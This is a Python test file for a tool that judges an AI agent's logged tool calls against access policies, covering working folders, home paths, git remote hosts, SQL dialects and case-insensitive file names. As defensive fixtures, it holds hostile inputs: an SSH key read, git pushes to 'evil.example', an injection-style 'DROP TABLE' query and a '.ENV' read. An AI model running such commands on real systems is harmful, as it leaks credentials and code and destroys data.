"""Where relative paths begin, and which shell reads commands: asked once, and written for all tools."""

from __future__ import annotations

import json
import shutil
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest

from tests.shell_agent import SHELL_AGENT
from workbench.app.as_proposed import is_unconfirmed
from workbench.app.new_session import new_session
from workbench.app.rewording import Reworded
from workbench.app.surroundings import doubts_of_tools, with_answer
from workbench.app.workbench import Workbench
from workbench.clarify.written.asked import TriedCall
from workbench.clarify.written.tried_calls import Trials
from workbench.cli.report_text import question_lines
from workbench.dialect.lowered_policy import lowered_policy
from workbench.model import Question, RecordedCall, Tool, Verdict, WorkbenchError
from workbench.question_wording import question_about
from workbench.session.agent_file import read_agent

ROOT = Path(__file__).parents[2]
WORDS = "The agent works only in the project folder /srv/app."
SAID = "The agent must not read a file if the path does not lie inside “/srv/app”."
TOOLS = {"read_file": "path", "write_file": "path", "run_command": "command", "list+run": "path"}
CALLS = (
    ("read_file", {"path": "src/a.py"}),
    ("read_file", {"path": "/srv/app/b.py"}),
    ("read_file", {"path": "../x"}),
    ("write_file", {"path": "c.py"}),
    ("run_command", {"command": "ls -l"}),
)


def desk_of_files(folder: Path, described: str = "Paths are relative to the folder /srv/other.") -> Workbench:
    tools = [
        {
            "name": name,
            "description": described,
            "inputSchema": {"type": "object", "properties": {of: {"type": "string"}}, "required": [of]},
        }
        for name, of in TOOLS.items()
    ]
    (folder / "tools.json").write_text(json.dumps(tools), encoding="utf-8")
    (folder / "request.md").write_text(f"{WORDS}\n\nWhat no sentence forbids is allowed.\n", encoding="utf-8")
    row = {"format": "workbench-decision/1", "runs": True, "run": "a"}
    rows = [
        {**row, "call": at, "tool": tool, "arguments": json.dumps(given)}
        for at, (tool, given) in enumerate(CALLS)
    ]
    (folder / "log.jsonl").write_text("".join(json.dumps(one) + "\n" for one in rows), encoding="utf-8")
    created = new_session(
        folder / "desk", folder / "request.md", agent=folder / "tools.json", logs=[folder / "log.jsonl"],
        author="written",
    )  # fmt: skip
    created.draft()
    created.workbench.rewordings.keep(
        [
            Reworded(WORDS, (SAID,)),
            Reworded("What no sentence forbids is allowed.", ("What no sentence forbids is allowed.",)),
        ]
    )
    return created.workbench


def asked(bench: Workbench) -> list[Question]:
    return [one for one in bench.questions.understand().open if one.kind == "relative-paths"]


def verdicts(bench: Workbench) -> list[Verdict]:
    return [one.decision.verdict for one in bench.runs.decide(bench.policy.terms(), bench.runs.current())]


def test_one_question_says_where_the_relative_paths_of_all_tools_begin(tmp_path: Path) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        (question,) = asked(bench)
        assert bench.questions.understand().open[0] == question
        assert [one.value for one in question.options] == ["/srv/app", "/srv/other", "meant"]
        assert verdicts(bench)[:3] == [Verdict.CANNOT_EVALUATE, Verdict.ALLOW, Verdict.CANNOT_EVALUATE]
        bench.questions.answer(question, "/srv/app")
        assert {tool.cwd for tool in bench.session.agent.tools} == {"/srv/app"}
        assert verdicts(bench)[:3] == [Verdict.ALLOW, Verdict.ALLOW, Verdict.DENY]
        assert not asked(bench)
        bench.editing.undo()
        assert asked(bench) == [question]


def test_a_new_session_takes_the_folder_in_which_the_request_says_that_the_agent_works(
    tmp_path: Path,
) -> None:
    with closing(desk_of_files(tmp_path, "Some tool.")) as bench:
        assert {tool.cwd for tool in bench.session.agent.tools} == {"/srv/app"}
        (assumed,) = [one for one in bench.session.assumptions if "/srv/app" in one.statement]
        assert is_unconfirmed(assumed) and "cwd" in assumed.statement
        assert not asked(bench)


def test_another_folder_than_those_that_are_named_is_typed(tmp_path: Path) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        (question,) = asked(bench)
        with pytest.raises(WorkbenchError, match="must be an absolute folder"):
            bench.questions.answer(question, "src")
        assert asked(bench) == [question]
        bench.questions.answer(question, "/srv/mine")
        assert {tool.cwd for tool in bench.session.agent.tools} == {"/srv/mine"}
        assert verdicts(bench)[:3] == [Verdict.DENY, Verdict.ALLOW, Verdict.DENY]
        bench.editing.undo()
        line = " ".join(question_lines(question, bench.session.path))
        assert "VALUE may also be another folder" in line and "own words" not in line


def test_a_name_with_a_plus_says_nothing_of_other_tools(tmp_path: Path) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        (question,) = asked(bench)
        agent = bench.session.agent
        others = (Tool("list", cwd="/own"), Tool("run", cwd="/own"))
        said = with_answer(replace(agent, tools=(*agent.tools, *others)), question, "/srv/app", {})
        assert said is not None
        assert {tool.name: tool.cwd for tool in said.tools} == {
            **dict.fromkeys(TOOLS, "/srv/app"), "list": "/own", "run": "/own",
        }  # fmt: skip


def test_it_may_stay_unknown(tmp_path: Path) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        (question,) = asked(bench)
        bench.questions.answer(question, "meant")
        assert not asked(bench)
        assert not any(tool.cwd for tool in bench.session.agent.tools)
        assert not owed_to(bench, question)
        (stored,) = [one for one in bench.session.assumptions if one.question == question.id]
        others = [one for one in bench.session.assumptions if one != stored]
        bench.session.set_assumptions((*others, replace(stored, value="/srv/app")))
        assert owed_to(bench, question)  # no tool begins there: that it cannot be told was accepted by nobody
        bench.questions.answer(question, "/srv/app")
        assert bench.session.assumptions == tuple(others)


def owed_to(bench: Workbench, question: Question) -> bool:
    return any(one.question == question.id for one in bench.in_force.missing())


def test_code_that_names_no_file_is_not_asked_about(tmp_path: Path) -> None:
    """No session that is shipped asks where paths begin: none has logged calls that need it."""
    for name in ("hospital-access", "coding-agent"):
        shutil.copytree(ROOT / "sessions" / name, tmp_path / name)
        with closing(Workbench.open(tmp_path / name)) as bench:
            assert not asked(bench)


def test_it_is_asked_which_folder_the_home_folder_is(tmp_path: Path) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        assert not asked_of_home(bench)
        log = bench.session.log_paths[0]
        rows = log.read_text(encoding="utf-8")
        given = json.dumps({"path": "~/.ssh/id"})
        more = {**json.loads(rows.splitlines()[0]), "call": len(CALLS), "arguments": given}
        log.write_text(rows + json.dumps(more) + "\n", encoding="utf-8")
        bench.session.set_request(f"{bench.session.request}\nNothing of /home/kim is read.\n")
        (question,) = asked_of_home(bench)
        assert "1 of 6 logged calls" in question.text
        assert [one.value for one in question.options] == ["/home/kim", "meant"]
        bench.questions.answer(question, "/home/kim")
        assert not asked_of_home(bench)
        note = bench.session.agent.tools[0].fields["path"]
        assert (note.type, note.options) == ("path", {"home": "/home/kim"})


def asked_of_home(bench: Workbench) -> list[Question]:
    return [one for one in bench.questions.understand().open if one.kind == "home-folder"]


def test_before_anything_is_logged_the_folder_is_asked_for_where_the_request_names_one(
    tmp_path: Path,
) -> None:
    with closing(desk_of_files(tmp_path)) as bench:
        terms, agent = bench.policy.terms(), bench.session.agent
        questions = [
            question_about(one)
            for request in (WORDS, "The agent works alone.")
            for one in doubts_of_tools(
                terms, replace(agent, tools=tuple(map(_silent, agent.tools))), request, ()
            )
            if one.kind == "relative-paths"
        ]
        (question,) = questions
        assert "logged" not in question.text
        assert [one.value for one in question.options] == ["/srv/app", "meant"]


def test_no_path_begins_in_a_folder_that_a_rule_closes(tmp_path: Path) -> None:
    closed = "The agent must not read a file if the path lies inside “/srv/app”."
    with closing(desk_of_files(tmp_path)) as bench:
        bench.rewordings.keep([Reworded(WORDS, (closed,))])
        (question,) = asked(bench)
        assert [one.value for one in question.options] == ["/srv/other", "meant"]


def _silent(tool: Tool) -> Tool:
    return replace(tool, description="")


HOSTS = '''"""Hosts."""

from agent import Bash

DEFAULT = "allow"


def forbid_host(call: Bash) -> bool:
    """R1: Nothing but github.com is reached."""
    return not call.command.hosts <= {"github.com"}
'''


def test_it_is_asked_to_which_host_a_remote_of_git_leads_and_the_answer_makes_its_calls_decidable() -> None:
    agent = read_agent(SHELL_AGENT)
    terms = lowered_policy(HOSTS, agent).terms
    logged = [
        RecordedCall("r", at, "bash", {"command": text})
        for at, text in enumerate(("ls", "git fetch", "git push -u upstream main", "git push evil.example:x"))
    ]
    (doubt,) = doubts_of_tools(terms, agent, "", logged)
    assert (doubt.kind, doubt.values) == ("remote-host", ("github.com", "meant"))
    said = with_answer(agent, question_about(doubt), "github.com", {})
    assert said is not None
    assert said.tools[0].remotes == {"/repo": {"origin": "github.com", "upstream": "github.com"}}
    assert not [*doubts_of_tools(lowered_policy(HOSTS, said).terms, said, "", logged)]
    assert not [*doubts_of_tools(terms, agent, "Nothing is pushed.", logged[:1])]
    for command, before, after in (
        ("git push origin main", False, True),
        ("git push upstream", False, True),
        ("git push other main", False, False),
        ("git push git@evil.example:x.git main", False, False),
    ):
        call = (TriedCall("bash", {"command": command}),)
        decided = (Trials(lowered_policy(HOSTS, one).terms, one).confirms(call) for one in (agent, said))
        assert [*decided] == [before, after], command


@pytest.mark.parametrize(
    ("description", "shell"),
    [("Run a shell command with bash.", "bash"), ("Run it by bash or zsh.", ""), ("Run a command.", "")],
)
def test_a_shell_that_the_description_of_a_tool_names_is_not_asked_about(
    description: str, shell: str, tmp_path: Path
) -> None:
    parameters = {"type": "object", "properties": {"command": {"type": "string"}}, "required": ["command"]}
    tools = [{"name": "run_command", "description": description, "inputSchema": parameters}]
    (tmp_path / "tools.json").write_text(json.dumps(tools), encoding="utf-8")
    (tmp_path / "request.md").write_text("Nothing is deleted.\n", encoding="utf-8")
    made = new_session(
        tmp_path / "desk", tmp_path / "request.md", agent=tmp_path / "tools.json", logs=[], author="written"
    )
    with closing(made.workbench) as bench:
        assert [one.shell for one in bench.session.agent.tools] == [shell]


QUERIES = '''"""Own."""
from agent import AskDatabase

DEFAULT = "allow"


def forbid_changes(call: AskDatabase) -> bool:
    """R1: Queries only read."""
    return not call.query.kinds <= {"select"}
'''
DATABASE = """
name = "desk"

[tools.ask_database]
description = "Run SQL on the sales database."
fields = {query = {type = "sql", options = {dialect = "undeclared", unqualified = "as written"}}}
parameters = {type = "object", required = ["query"], properties = {query = {type = "string"}}}
"""


def test_it_is_asked_of_which_database_sql_is_and_what_two_read_differently_is_not_allowed_before() -> None:
    agent = read_agent(DATABASE)
    request = "Queries only read. We have MariaDB."
    terms = lowered_policy(QUERIES, agent).terms
    (doubt,) = doubts_of_tools(terms, agent, request, [])
    assert doubt.kind == "undeclared-dialect"
    assert doubt.values[0] == "mysql"  # as the request names it
    assert with_answer(agent, question_about(doubt), "meant", {}) is None
    said = {
        dialect: with_answer(agent, question_about(doubt), dialect, {}) for dialect in ("mysql", "sqlite")
    }
    for query, before, mysql, sqlite in (
        ("SELECT name FROM customers WHERE city = 'Bern' LIMIT 5", True, True, True),
        ("SELECT `name` FROM `customers`", False, True, True),
        (r"SELECT 'a\' , name FROM customers -- '", False, False, True),
        (r"SELECT '\'; DROP TABLE customers; -- '", False, False, False),
        ("SELECT julianday('now')", False, False, True),
        ("DROP TABLE customers", False, False, False),
    ):
        call = (TriedCall("ask_database", {"query": query}),)
        told = (agent, *filter(None, said.values()))
        decided = [Trials(lowered_policy(QUERIES, one).terms, one).confirms(call) for one in told]
        assert decided == [before, mysql, sqlite], query
    for one in filter(None, said.values()):
        assert one.tools[0].fields["query"].options["unqualified"] == "as written"
        assert not [*doubts_of_tools(lowered_policy(QUERIES, one).terms, one, request, [])]


def test_a_table_without_a_schema_is_none_of_a_rule_where_nobody_said_the_database() -> None:
    agent = read_agent(DATABASE.replace(', unqualified = "as written"', ""))
    trials = Trials(lowered_policy(QUERIES, agent).terms, agent)
    for table, decided in (("customers", False), ("crm.customers", True)):
        call = TriedCall("ask_database", {"query": f"SELECT name FROM {table}"})
        assert trials.confirms((call,)) is decided


SECRETS = '''"""Own."""
from agent import ReadFile

DEFAULT = "allow"


def forbid_secret(call: ReadFile) -> bool:
    """R1: Nobody reads .env."""
    return call.path.name == ".env"
'''
DISK = """
name = "coder"

[tools.read_file]
cwd = "{cwd}"
fields = {{path = {{type = "path"}}}}
parameters = {{type = "object", required = ["path"], properties = {{path = {{type = "string"}}}}}}
"""


@pytest.mark.parametrize(
    ("cwd", "request_", "values"),
    [
        ("/srv/shop", "Nobody reads .env.", ()),
        ("/Users/ann/shop", "Nobody reads .env.", ("ignore_case",)),
        ("/srv/shop", "We work on MacBooks: nobody reads .env.", ("ignore_case",)),
        ("/srv/shop", r"The shop is in C:\shop. Nobody reads .env.", ("windows",)),
    ],
)
def test_where_case_may_tell_no_files_apart_it_is_asked_once(
    cwd: str, request_: str, values: tuple[str, ...]
) -> None:
    agent = read_agent(DISK.format(cwd=cwd))
    found = [*doubts_of_tools(lowered_policy(SECRETS, agent).terms, agent, request_, [])]
    assert [one.kind for one in found] == ["undeclared-disk"] * bool(values)
    call = (TriedCall("read_file", {"path": ".ENV"}),)
    assert Trials(lowered_policy(SECRETS, agent).terms, agent).confirms(call)
    for doubt in found:
        assert doubt.values == (*values, "meant")
        said = with_answer(agent, question_about(doubt), "ignore_case", {})
        assert said is not None
        terms = lowered_policy(SECRETS, said).terms
        assert not Trials(terms, said).confirms(call)
        assert not [*doubts_of_tools(terms, said, request_, [])]
